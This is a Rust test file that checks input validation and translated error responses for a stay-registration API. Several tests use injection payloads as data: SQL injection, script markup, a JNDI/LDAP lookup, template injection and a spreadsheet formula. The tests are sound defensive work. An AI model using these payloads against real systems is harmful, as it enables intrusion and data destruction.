//! Bad input: each kind gets a clear problem in the language asked for, and changes nothing.

use crate::support::province::{HA, PHAT, TEREZA, room_id};
use crate::support::*;
use serde_json::{Value, json};
use std::fmt::Write;

/// A problem in both languages, as lines to compare: its own text, or that of each field.
fn told(what: &str, vi: &Value, en: &Value) -> String {
    let text = |value: &Value, name: &str| value[name].as_str().unwrap().to_owned();
    let mut lines = format!("{what}: {} {}\n", vi["status"], text(vi, "code"));
    let errors = |problem: &Value| problem["errors"].as_array().cloned().unwrap_or_default();
    for (vi, en) in errors(vi).iter().zip(&errors(en)) {
        assert_eq!((&vi["pointer"], &vi["code"]), (&en["pointer"], &en["code"]), "{what}");
        assert_ne!(vi["message"], en["message"], "{what}: not translated");
        writeln!(lines, "    {:?} {}", text(vi, "pointer"), text(vi, "code")).unwrap();
        writeln!(
            lines,
            "        {}\n        {}",
            text(vi, "message"),
            text(en, "message")
        )
        .unwrap();
    }
    assert_eq!(errors(vi).len(), errors(en).len(), "{what}");
    assert_ne!(vi["detail"], en["detail"], "{what}: not translated");
    if errors(vi).is_empty() {
        for problem in [vi, en] {
            writeln!(lines, "    {}. {}", text(problem, "title"), text(problem, "detail")).unwrap();
        }
    }
    lines
}

/// Sends a body to `notifyStay` in both languages; it has to be refused, and nothing may be stored.
async fn refused(client: &Client<'_>, what: &str, content_type: Option<&str>, body: &[u8]) -> String {
    let t = client.t;
    let before = rows::everything(t).await;
    let mut problems = Vec::new();
    for lang in ["vi", "en"] {
        let mut call = client.call("notifyStay").lang(lang).key("key-of-a-bad-one").bytes(body);
        if let Some(kind) = content_type {
            call = call.header("Content-Type", kind);
        }
        let answer = call.await;
        assert!(
            (400..500).contains(&answer.status),
            "{what}: {} {}",
            answer.status,
            answer.text()
        );
        assert_eq!(answer.header("content-language"), Some(lang));
        problems.push(answer.json());
    }
    assert_eq!(rows::everything(t).await, before, "{what}");
    told(what, &problems[0], &problems[1])
}

const JSON: Option<&str> = Some("application/json");

/// Every text of a notification with the most characters that it may have.
const TEXTS: &[(&str, usize)] = &[
    ("/guest/full_name", 120),
    ("/guest/document_number", 40),
    ("/guest/document_name", 80),
    ("/guest/phone", 32),
    ("/guest/address", 250),
    ("/guest/visa_symbol", 80),
    ("/guest/visa_number", 80),
    ("/guest/entry_gate", 80),
    ("/guest/nationality", 80),
    ("/reason", 80),
    ("/reason_note", 500),
    ("/note", 500),
    ("/external_id", 64),
];

/// A notification with the value at the pointer.
type Wrong = (&'static str, &'static str, Value);

fn wrong_values() -> Vec<Wrong> {
    vec![
        ("a name with a digit", "/guest/full_name", json!("Lâm Tấn Phát 2")),
        ("a name with a line break", "/guest/full_name", json!("Lâm\nTấn Phát")),
        ("a name with a NUL", "/guest/full_name", json!("Lâm\u{0}Phát")),
        (
            "a name of markup",
            "/guest/full_name",
            json!("<script>alert(document.cookie)</script>"),
        ),
        ("a name of nothing but space", "/guest/full_name", json!("   ")),
        (
            "a name of invisible characters",
            "/guest/full_name",
            json!("\u{200b}\u{200b}"),
        ),
        ("a name that is too long", "/guest/full_name", json!("Lâm ".repeat(40))),
        ("a name that is a number", "/guest/full_name", json!(7)),
        ("a name that is a list", "/guest/full_name", json!(["Lâm"])),
        ("born on 31 February", "/guest/birth_date", json!("1982-02-31")),
        (
            "born on 29 February of a common year",
            "/guest/birth_date",
            json!("1900-02-29"),
        ),
        ("born in Vietnamese order", "/guest/birth_date", json!("02/04/1982")),
        ("born tomorrow", "/guest/birth_date", json!("2026-11-22")),
        ("born before 1900", "/guest/birth_date", json!("1899-12-31")),
        ("born in the year 0", "/guest/birth_date", json!("0000-01-01")),
        ("of neither sex", "/guest/sex", json!("x")),
        ("of a sex that is a number", "/guest/sex", json!(1)),
        ("of no country", "/guest/nationality", json!("XX")),
        ("of a country by its name", "/guest/nationality", json!("Việt Nam")),
        (
            "of a kind of document that there is not",
            "/guest/document_type",
            json!("library_card"),
        ),
        (
            "a personal number of 11 digits",
            "/guest/document_number",
            json!("05608200473"),
        ),
        (
            "a personal number of 13 digits",
            "/guest/document_number",
            json!("0560820047311"),
        ),
        (
            "a personal number with a letter",
            "/guest/document_number",
            json!("0560820O4731"),
        ),
        (
            "a personal number in Arabic digits",
            "/guest/document_number",
            json!("٠٥٦٠٨٢٠٠٤٧٣١"),
        ),
        ("a telephone number of words", "/guest/phone", json!("gọi tôi nhé")),
        ("a telephone number that is too short", "/guest/phone", json!("12345")),
        ("a visa symbol that there is not", "/guest/visa_symbol", json!("XX")),
        ("a visa symbol with the wrong D", "/guest/visa_symbol", json!("DT")),
        (
            "permitted until before arriving",
            "/guest/permit_expires_on",
            json!("2026-11-20"),
        ),
        ("entered after arriving", "/guest/entered_on", json!("2026-11-22")),
        ("entered on no day", "/guest/entered_on", json!("2026-13-01")),
        ("an unknown field of the guest", "/guest/shoe_size", json!(42)),
        ("a guest who is a text", "/guest", json!("Lâm Tấn Phát")),
        ("a guest who is a list", "/guest", json!(["Lâm Tấn Phát"])),
        ("a kind that there is not", "/kind", json!("weekly")),
        ("an arrival that is a date", "/arrival_at", json!("2026-11-21")),
        (
            "an arrival without an offset",
            "/arrival_at",
            json!("2026-11-21T19:00:00"),
        ),
        (
            "an arrival on 31 November",
            "/arrival_at",
            json!("2026-11-31T19:00:00+07:00"),
        ),
        ("an arrival that is a number", "/arrival_at", json!(1_795_000_000)),
        (
            "an arrival more than a day ahead",
            "/arrival_at",
            json!("2026-11-22T20:00:01+07:00"),
        ),
        (
            "an arrival in the year 0",
            "/arrival_at",
            json!("0000-01-01T00:00:00+23:59"),
        ),
        (
            "an arrival before the birth",
            "/arrival_at",
            json!("1982-04-01T19:00:00+07:00"),
        ),
        (
            "a departure before the arrival",
            "/planned_departure_at",
            json!("2026-11-21T18:59:59+07:00"),
        ),
        (
            "a departure at the arrival",
            "/planned_departure_at",
            json!("2026-11-21T19:00:00+07:00"),
        ),
        (
            "a departure in the year 9999",
            "/planned_departure_at",
            json!("9999-12-31T23:59:59Z"),
        ),
        (
            "a departure after a year",
            "/planned_departure_at",
            json!("2027-11-22T12:00:00+07:00"),
        ),
        ("a room that is no id", "/room_id", json!("402")),
        (
            "a room of another facility",
            "/room_id",
            json!(room_id("bacthanh", "101").to_string()),
        ),
        ("a room that is an object", "/room_id", json!({})),
        ("a reason that there is not", "/reason", json!("fun")),
        ("another reason without words", "/reason", json!("other")),
        ("an unknown field", "/colour", json!("red")),
        ("a field of the answer", "/late_seconds", Value::Null),
        ("a warning that there is not", "/confirmed", json!(["whatever"])),
        ("warnings that are a text", "/confirmed", json!("long_stay")),
        (
            "more cleared warnings than there are",
            "/confirmed",
            json!(vec!["long_stay"; 21]),
        ),
    ]
}

on_both_engines!(
    // Part of LC-8.1, KH-11.2b.
    #[test]
    async fn a_wrong_value_is_refused_with_code_pointer_and_text(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let mut all = String::new();
        for (what, pointer, value) in wrong_values() {
            let body = t.stay_in("402", &PHAT).with(pointer, value).to_string();
            all += &refused(&haidang, what, JSON, body.as_bytes()).await;
        }
        insta::assert_snapshot!("wrong_values", all);
    }

    #[test]
    async fn every_mistake_is_told_at_once(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let body = t
            .stay_in("402", &PHAT)
            .with("/guest/full_name", "Phát 2")
            .with("/guest/birth_date", "1982-02-31")
            .with("/guest/nationality", "XX")
            .with("/guest/phone", "x")
            .with("/planned_departure_at", instant("2026-11-20 12:00:00"))
            .with("/reason", "fun");
        haidang.call("notifyStay").json(&body).await.refuses(&[
            ("/planned_departure_at", "departure_before_arrival"),
            ("/guest/full_name", "name_digit"),
            ("/guest/birth_date", "date_not_in_calendar"),
            ("/guest/nationality", "country_unknown"),
            ("/guest/phone", "phone_malformed"),
            ("/reason", "reason_unknown"),
        ]);
    }

    #[test]
    async fn a_body_that_cannot_be_read_is_refused(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let good = t.stay_in("402", &PHAT).to_string();
        let broken = [&good.as_bytes()[..good.len() - 1], b", \"note\": \"\xff\xfe\"}"].concat();
        let deep = |open: &str, close: &str| format!("{{\"note\": {}{}}}", open.repeat(50_000), close.repeat(50_000));
        let twice = good.replacen('{', "{\"reason\": \"tourism\", ", 1);
        let twice_inside = good.replacen("\"guest\":{", "\"guest\":{\"sex\":\"male\",", 1);
        assert_ne!(twice_inside, good);
        let mut all = String::new();
        for (what, body) in [
            ("nothing", Vec::new()),
            ("no JSON", b"full_name=Phat".to_vec()),
            ("half of it", good.as_bytes()[..good.len() / 2].to_vec()),
            ("something after it", format!("{good} x").into_bytes()),
            ("two of them", format!("{good}{good}").into_bytes()),
            ("broken UTF-8", broken),
            ("UTF-16", good.encode_utf16().flat_map(u16::to_le_bytes).collect()),
            ("a byte-order mark", format!("\u{feff}{good}").into_bytes()),
            (
                "half a surrogate pair",
                good.replacen("\"tourism\"", "\"\\ud800\"", 1).into_bytes(),
            ),
            ("a key twice", twice.into_bytes()),
            ("a key twice in the guest", twice_inside.into_bytes()),
            ("lists fifty thousand deep", deep("[", "]").into_bytes()),
            ("objects fifty thousand deep", deep("{\"a\":", "}").into_bytes()),
            (
                "a number without end",
                good.replacen("\"tourism\"", "1e99999", 1).into_bytes(),
            ),
            ("no number", good.replacen("\"tourism\"", "NaN", 1).into_bytes()),
            ("a comment", format!("/* x */{good}").into_bytes()),
            ("a list", b"[]".to_vec()),
            ("a null", b"null".to_vec()),
            ("a text", b"\"x\"".to_vec()),
            ("a list of one", format!("[{good}]").into_bytes()),
        ] {
            all += &refused(&haidang, what, JSON, &body).await;
        }
        insta::assert_snapshot!("unreadable_bodies", all);
    }

    #[test]
    async fn a_body_of_another_type_is_refused(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let good = t.stay_in("402", &PHAT).to_string();
        let mut all = String::new();
        for kind in [
            None,
            Some("text/plain"),
            Some("application/x-www-form-urlencoded"),
            Some("multipart/form-data; boundary=x"),
            Some("application/jsonp"),
            Some("application/xml"),
            Some(";"),
        ] {
            all += &refused(&haidang, kind.unwrap_or("no type"), kind, good.as_bytes()).await;
        }
        insta::assert_snapshot!("other_types", all);
        for kind in ["application/json; charset=utf-8", "Application/JSON"] {
            haidang
                .call("notifyStay")
                .header("Content-Type", kind)
                .bytes(good.as_bytes())
                .await
                .is(201);
        }
    }

    #[test]
    async fn two_megabytes_are_refused_and_half_a_megabyte_is_taken(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let padded = |length: usize| {
            let body = t.stay_in("402", &PHAT).to_string();
            let space = " ".repeat(length - body.len());
            format!("{body}{space}").into_bytes()
        };
        let most = 512 * 1024;
        let mut all = String::new();
        for (what, body) in [
            ("two megabytes of space", padded(2 * 1024 * 1024)),
            (
                "a note of two megabytes",
                t.stay_in("402", &PHAT)
                    .with("/note", "x".repeat(2 * 1024 * 1024))
                    .to_string()
                    .into_bytes(),
            ),
            ("one byte too many", padded(most + 1)),
        ] {
            all += &refused(&haidang, what, JSON, &body).await;
        }
        insta::assert_snapshot!("too_large", all);
        haidang
            .call("notifyStay")
            .header("Content-Type", "application/json")
            .bytes(padded(most))
            .await
            .is(201);
    }

    #[test]
    async fn texts_that_are_too_long_are_refused_and_the_longest_are_taken(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let base = t
            .stay_in("402", &PHAT)
            .with("/guest/document_type", "other")
            .with("/guest/document_name", "Thẻ");
        for (pointer, max) in TEXTS {
            // Characters are counted, not bytes.
            let body = base.clone().with(pointer, "ệ".repeat(max + 1));
            let fields = haidang.call("notifyStay").json(&body).await.wrong_fields();
            let own: Vec<&str> = fields
                .iter()
                .filter(|(at, _)| at == pointer)
                .map(|(_, code)| code.as_str())
                .collect();
            assert!(
                own.contains(&"too_long") || *pointer == "/guest/phone",
                "{pointer}: {fields:?}"
            );
        }
        let most = base
            .with("/guest/full_name", "ệ".repeat(120))
            .with("/guest/document_number", "ệ".repeat(30))
            .with("/guest/document_name", "ệ".repeat(80))
            .with("/guest/address", "ệ".repeat(250))
            .with("/guest/visa_number", "ệ".repeat(80))
            .with("/guest/entry_gate", "ệ".repeat(80))
            .with("/reason_note", "ệ".repeat(500))
            .with("/note", "ệ".repeat(500))
            .with("/external_id", "ệ".repeat(64));
        haidang.notify(&most).await;
        let longer = most
            .with("/guest/document_number", "ệ".repeat(31))
            .without("/external_id");
        haidang
            .call("notifyStay")
            .json(&longer)
            .await
            .refuses(&[("/guest/document_number", "document_length")]);
    }

    #[test]
    async fn control_characters_are_refused_in_every_text(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let base = t
            .stay_in("402", &PHAT)
            .with("/guest/document_type", "other")
            .with("/guest/document_name", "Thẻ");
        let before = rows::everything(t).await;
        for (pointer, _) in TEXTS {
            for control in ['\u{0}', '\u{7}', '\n', '\r', '\t', '\u{1b}', '\u{7f}', '\u{85}'] {
                let body = base.clone().with(pointer, format!("a{control}b"));
                let fields = haidang.call("notifyStay").json(&body).await.wrong_fields();
                assert!(
                    fields.contains(&((*pointer).to_owned(), "control_character".to_owned())),
                    "{pointer} {control:?}: {fields:?}"
                );
            }
        }
        assert_eq!(rows::everything(t).await, before);
    }

    #[test]
    async fn sql_and_markup_are_stored_and_told_as_what_they_are(t: &TestApp) {
        let haidang = t.signed_in("haidang").await;
        let before = rows::count(t, "facility").await;
        for nasty in [
            "'; DROP TABLE stay; --",
            "<script>alert('x')</script>",
            "\"><img src=x onerror=alert(1)>",
            "${jndi:ldap://x/a}",
            "{{7*7}}",
            "%00 %s %n",
            "\\'; DELETE FROM stay; --",
            "=HYPERLINK(\"http://x\")",
        ] {
            let body = t
                .stay_in("402", &TEREZA)
                .with("/guest/document_type", "other")
                .with("/guest/document_number", "X-1")
                .with("/guest/document_name", nasty)
                .with("/guest/address", nasty)
                .with("/guest/visa_number", nasty)
                .with("/guest/entry_gate", nasty)
                .with("/reason_note", nasty)
                .with("/note", nasty)
                .with("/external_id", nasty);
            let stay = haidang.notify(&body).await;
            for pointer in [
                "/guest/document_name",
                "/guest/address",
                "/guest/visa_number",
                "/guest/entry_gate",
                "/reason/note",
                "/note",
                "/external_id",
            ] {
                assert_eq!(stay.pointer(pointer), Some(&json!(nasty)), "{pointer}");
            }
            let stay = haidang
                .amend(&stay, json!({ "note": null, "change_reason": nasty }))
                .await
                .is(200);
            let history = haidang.call("listStayVersions").stay(&stay).await;
            assert_eq!(history.is(200)["versions"][0]["change_reason"], nasty);
            assert_eq!(history.header("content-type"), Some("application/json"));
            // Where no such text can be, it is refused.
            for (pointer, code) in [
                ("/guest/full_name", "name_symbol"),
                ("/guest/phone", "phone_malformed"),
                ("/guest/nationality", "country_unknown"),
                ("/guest/visa_symbol", "visa_symbol_unknown"),
                ("/reason", "reason_unknown"),
            ] {
                let body = t.stay_in("402", &HA).with(pointer, nasty);
                let fields = haidang.call("notifyStay").json(&body).await.wrong_fields();
                let own: Vec<&str> = fields.iter().map(|(_, code)| code.as_str()).collect();
                assert!(
                    own.contains(&code) || (pointer == "/guest/full_name" && own == ["name_digit"]),
                    "{nasty}: {fields:?}"
                );
            }
        }
        assert_eq!(rows::count(t, "facility").await, before);
        assert_eq!(rows::count(t, "stay").await, 8);
    }

    #[test]
    async fn sign_in_takes_any_text_for_a_name_and_any_for_a_password(t: &TestApp) {
        for (login, password) in [
            ("' OR '1'='1", "' OR '1'='1"),
            ("haidang'--", "x"),
            ("<b>haidang</b>", "x"),
            ("haidang%00", "x"),
            ("ｈａｉｄａｎｇ", "x"),
            (" ", " "),
            ("haidang", "\u{0}"),
        ] {
            let body = json!({ "login": login, "password": password });
            t.anonymous()
                .call("login")
                .json(&body)
                .await
                .problem("credentials_refused");
        }
        // PostgreSQL cannot even be asked for a NUL.
        let body = json!({ "login": "haidang\u{0}", "password": "x" });
        let answer = t.anonymous().call("login").json(&body).await;
        assert!([401, 422].contains(&answer.status), "{}", answer.text());
        for (body, expected) in [
            (json!({ "login": "", "password": "x" }), ("/login", "required")),
            (json!({ "login": "x" }), ("/password", "required")),
            (
                json!({ "login": "x".repeat(65), "password": "x" }),
                ("/login", "too_long"),
            ),
            (
                json!({ "login": "x", "password": "x".repeat(129) }),
                ("/password", "too_long"),
            ),
            (json!({ "login": null, "password": "x" }), ("/login", "wrong_type")),
            (json!({ "login": "x", "password": ["x"] }), ("/password", "wrong_type")),
            (
                json!({ "login": "x", "password": "x", "otp": "1" }),
                ("/otp", "unknown_field"),
            ),
        ] {
            t.anonymous().call("login").json(&body).await.refuses(&[expected]);
        }
    }
);
